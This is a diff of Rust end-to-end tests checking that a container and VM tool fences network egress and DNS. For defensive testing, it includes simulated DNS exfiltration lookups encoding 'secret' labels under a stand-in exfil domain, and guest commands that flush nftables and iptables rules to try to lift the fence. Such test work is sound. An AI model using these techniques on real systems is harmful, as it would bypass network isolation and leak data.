@@ -46,6 +46,11 @@ fn default_probes(probes: &mut Probes, p: &Project, other: &str, kind: &str) {
     probes.expect(&format!("{kind}: internet"), true, reach(p, INTERNET, PORT));
     probes.expect(&format!("{kind}: LAN host"), false, reach(p, LAN, PORT));
     probes.expect(
+        &format!("{kind}: LAN host on a documentation range"),
+        false,
+        reach(p, PUBLIC_LAN, PORT),
+    );
+    probes.expect(
         &format!("{kind}: tailnet host"),
         false,
         reach(p, TAILNET, PORT),
@@ -65,6 +70,66 @@ fn default_probes(probes: &mut Probes, p: &Project, other: &str, kind: &str) {
         false,
         reach(p, other, 9000),
     );
+}
+
+/// DNS under `EGRESS=none` with `EGRESS_ALLOW={NAME_INTERNET}`: a name that exists nowhere
+/// gets no answer and never leaves the host (counted by a table of the test's own), the
+/// allowed name resolves and opens its address, DNS to another server is closed.
+fn dns_probes(probes: &mut Probes, p: &Project, kind: &str, host_name: bool) {
+    probes.expect(
+        &format!("{kind} none: internet before its name is asked"),
+        false,
+        reach(p, INTERNET, PORT),
+    );
+    let guard = DnsGuard::new();
+    let (left, asked) = (guard.left(), guard.asked());
+    for i in 0..3 {
+        let got = lookup(p, &format!("c2VjcmV0LXtpfQ-{i}.exfil.tmpl.test"));
+        eprintln!("exfiltration lookup {i}: {got}");
+    }
+    let gone = (guard.left() - left, guard.asked() - asked);
+    eprintln!(
+        "queries that left the host: {} (+{} to the stand-in)",
+        gone.0, gone.1
+    );
+    probes.expect(
+        &format!("{kind} none: a name that exists nowhere leaves the host"),
+        false,
+        gone != (0, 0),
+    );
+    if host_name {
+        probes.expect(
+            &format!("{kind} none: host.tmpl.internal is the gateway"),
+            true,
+            lookup(p, "host.tmpl.internal") == gateway(p),
+        );
+    }
+    let got = lookup(p, NAME_INTERNET);
+    probes.expect(
+        &format!("{kind} none: the allowed name resolves"),
+        true,
+        got == INTERNET,
+    );
+    probes.expect(
+        &format!("{kind} none: the allowed name's address"),
+        true,
+        reach(p, INTERNET, PORT),
+    );
+    probes.expect(
+        &format!("{kind} none: a name outside EGRESS_ALLOW resolves"),
+        false,
+        lookup(p, NAME_LAN) == LAN,
+    );
+    probes.expect(
+        &format!("{kind} none: DNS to another server"),
+        false,
+        reach(p, PUBLIC_LAN, 53),
+    );
+    drop(guard);
+}
+
+fn dns_env() -> String {
+    format!("EGRESS=none\nEGRESS_ALLOW={NAME_INTERNET}\n")
 }
 
 #[test]
@@ -87,11 +152,19 @@ fn containers_reach_the_internet_and_nothing_else() {
     default_probes(&mut probes, &p, &other_ip, "container");
     assert!(nft_table(&slug, "inet").is_some(), "the fence is in force");
     assert!(p.status()["fence"].as_str().unwrap().contains("in force"));
-    assert!(p.ok(&["status"]).contains("egress    internet (in force"));
-    // DNS from Podman's own server on the gateway still resolves (aardvark knows the
-    // container's own name; the FQDN is not in /etc/hosts)
-    let dns = p.sh(&format!("getent hosts tmpl-{slug}.dns.podman || true"));
-    probes.expect("container: DNS resolves", true, !dns.is_empty());
+    let status = p.ok(&["status"]);
+    assert!(status.contains("egress    internet (in force"), "{status}");
+    probes.expect(
+        "container: status names the LAN it closed",
+        true,
+        status.contains("198.51.100.0/24 (tmplfr0)"),
+    );
+    // names through the guest's own resolver, forwarded under `internet`
+    probes.expect(
+        "container: DNS resolves",
+        true,
+        lookup(&p, NAME_INTERNET) == INTERNET,
+    );
     eprintln!(
         "first round: {} probes, {} wrong",
         probes.rows.len(),
@@ -111,6 +184,10 @@ fn containers_reach_the_internet_and_nothing_else() {
     p.ok(&["up"]);
     probes.expect("none: internet", false, reach(&p, INTERNET, PORT));
     probes.expect("none: LAN host", false, reach(&p, LAN, PORT));
+
+    p.write(".env", &ct_env(&dns_env()));
+    p.ok(&["up"]);
+    dns_probes(&mut probes, &p, "container", true);
 
     p.write(
         ".env",
@@ -203,8 +280,11 @@ fn a_bridged_vm_cannot_lift_its_fence() {
     p.ok(&["up"]);
     let slug = p.slug();
     default_probes(&mut probes, &p, &other_ip, "VM");
-    let dns = p.sh("getent hosts host.tmpl.internal || true");
-    probes.expect("VM: DNS resolves", true, !dns.is_empty());
+    probes.expect(
+        "VM: DNS resolves",
+        true,
+        lookup(&p, NAME_INTERNET) == INTERNET,
+    );
     // the LAN on its bridge: closed to the VM, but the LAN can still reach it
     let lan_ip = eventually(std::time::Duration::from_secs(60), || {
         let a = p.sh("ip -4 -o addr | awk '{print $4}' | grep '^172.31.77.' | cut -d/ -f1 || true");
@@ -326,11 +406,11 @@ fn a_persons_containers_are_fenced_inside_their_rootless_podman() {
         nft_table(&p.slug(), "inet").is_none(),
         "a person's fence is not on the host's firewall"
     );
-    let dns = p.sh(&format!(
-        "getent hosts tmpl-{}.dns.podman || true",
-        p.slug()
-    ));
-    probes.expect("rootless container: DNS resolves", true, !dns.is_empty());
+    probes.expect(
+        "rootless container: DNS resolves",
+        true,
+        lookup(&p, NAME_INTERNET) == INTERNET,
+    );
 
     p.write(
         ".env",
@@ -362,6 +442,9 @@ fn a_persons_containers_are_fenced_inside_their_rootless_podman() {
     p.write(".env", &ct_env("EGRESS=none\n"));
     p.ok(&["up"]);
     probes.expect("rootless none: internet", false, reach(&p, INTERNET, PORT));
+    p.write(".env", &ct_env(&dns_env()));
+    p.ok(&["up"]);
+    dns_probes(&mut probes, &p, "rootless container", false);
 
     // every container of the person's stops: Podman drops its namespace, and the next `up`
     // brings the fence into the new one before the guest runs
@@ -424,4 +507,148 @@ fn a_persons_containers_are_fenced_inside_their_rootless_podman() {
         tables()
     );
     probes.assert_all_right();
+}
+
+/// Root's choice of upstream for the libvirt hook's resolvers, for as long as the test runs.
+struct HookUpstream;
+
+impl HookUpstream {
+    fn new() -> HookUpstream {
+        std::fs::create_dir_all("/etc/tmpl").unwrap();
+        std::fs::write("/etc/tmpl/dns-upstream", format!("{RESOLVER}\n")).unwrap();
+        HookUpstream
+    }
+}
+
+impl Drop for HookUpstream {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_file("/etc/tmpl/dns-upstream");
+    }
+}
+
+#[test]
+#[cfg_attr(
+    not(feature = "e2e-daemons"),
+    ignore = "needs --features e2e-daemons (make test): it installs the libvirt hook (scripts/fence-hook.sh) and reloads libvirtd"
+)]
+fn a_persons_vm_is_fenced_by_roots_libvirt_hook() {
+    let lab = Lab::new();
+    let _ = &lab;
+    // as `make setup` does, with this build (the code under test, unless an older one is)
+    let bin = std::env::var("TMPL_TEST_BIN").unwrap_or_else(|_| env!("CARGO_BIN_EXE_tmpl").into());
+    host_ok(
+        "bash",
+        &[
+            concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/fence-hook.sh"),
+            &bin,
+        ],
+    );
+    let _upstream = HookUpstream::new();
+    let mut probes = Probes::default();
+    let other = Project::new("neighbour", &ct_env("EGRESS=open\n"));
+    let other_ip = other_guest(&other);
+
+    let mut user = user::TestUser::new("tmpl-e2e-fvm", 2332);
+    user.regroup(2333);
+    user.give_box(TEST_BOX);
+    // `tmpl init` then `tmpl up` with the VM template and nothing changed but what this
+    // offline machine needs: the test box, and a size that fits next to the other tests
+    let p = Project::new_as(&user, "agent", "");
+    let _ = std::fs::remove_file(p.dir.join(".env"));
+    p.ok(&["init", "vm"]);
+    let text = std::fs::read_to_string(p.dir.join(".env")).unwrap();
+    p.write(
+        ".env",
+        &format!("{text}\nIMAGE={TEST_BOX}\nMEMORY=768\nCPUS=1\nDISK=5\nSYNC=none\n"),
+    );
+    let up = p.run(&["up"]);
+    let err = String::from_utf8_lossy(&up.stderr).into_owned();
+    probes.expect(
+        "person's VM: up with the default .env",
+        true,
+        up.status.success(),
+    );
+    if !up.status.success() {
+        eprintln!("{err}");
+        probes.assert_all_right();
+    }
+    let slug = p.slug();
+    let status = p.status();
+    eprintln!("{status}");
+    probes.expect(
+        "person's VM: status says the fence is in force",
+        true,
+        status["fence"]
+            .as_str()
+            .unwrap()
+            .contains("in force: nft table inet tmpl-"),
+    );
+    default_probes(&mut probes, &p, &other_ip, "person's VM");
+    probes.expect(
+        "person's VM: host.tmpl.internal is the gateway",
+        true,
+        lookup(&p, "host.tmpl.internal") == gateway(&p),
+    );
+    probes.expect(
+        "person's VM: DNS resolves",
+        true,
+        lookup(&p, NAME_INTERNET) == INTERNET,
+    );
+    // root in the VM and the person's own processes cannot lift it
+    p.ok(&[
+        "ssh",
+        "--",
+        "sudo",
+        "sh",
+        "-c",
+        "nft flush ruleset 2>/dev/null; iptables -F 2>/dev/null; true",
+    ]);
+    probes.expect("person's VM lifted: LAN host", false, reach(&p, LAN, PORT));
+    let table = nft_table_of_network(&slug).expect("the hook's table is on the host");
+    let lift = user
+        .command("/usr/sbin/nft")
+        .args(["delete", "table", "inet", &table])
+        .output()
+        .unwrap();
+    probes.expect("the person deletes the fence", false, lift.status.success());
+
+    // a stricter policy: the running VM's fence changes when its network starts again
+    p.write(
+        ".env",
+        &format!(
+            "{text}\nIMAGE={TEST_BOX}\nMEMORY=768\nCPUS=1\nDISK=5\nSYNC=none\n{}",
+            dns_env()
+        ),
+    );
+    let refused = p.run(&["up"]);
+    assert!(
+        !refused.status.success(),
+        "a running VM cannot take a new fence"
+    );
+    assert!(String::from_utf8_lossy(&refused.stderr).contains("tmpl stop"));
+    p.ok(&["stop"]);
+    p.ok(&["up"]);
+    dns_probes(&mut probes, &p, "person's VM", true);
+    probes.expect("person's VM none: LAN host", false, reach(&p, LAN, PORT));
+
+    p.ok(&["rm", "-f"]);
+    assert!(
+        nft_table_of_network(&slug).is_none(),
+        "the network's stop removes the fence"
+    );
+    assert!(!std::path::Path::new(&format!("/run/tmpl-fence/tmpl-{slug}.json")).exists());
+    probes.assert_all_right();
+}
+
+/// The hook's table for the person's VM of `slug`.
+fn nft_table_of_network(slug: &str) -> Option<String> {
+    let tables = host_ok("nft", &["list", "tables", "inet"]);
+    tables
+        .lines()
+        .filter_map(|l| l.strip_prefix("table inet "))
+        .map(str::to_owned)
+        .find(|t| {
+            host_ok("nft", &["list", "table", "inet", t])
+                .contains(&format!("of network tmpl-{slug} #"))
+        })
 }
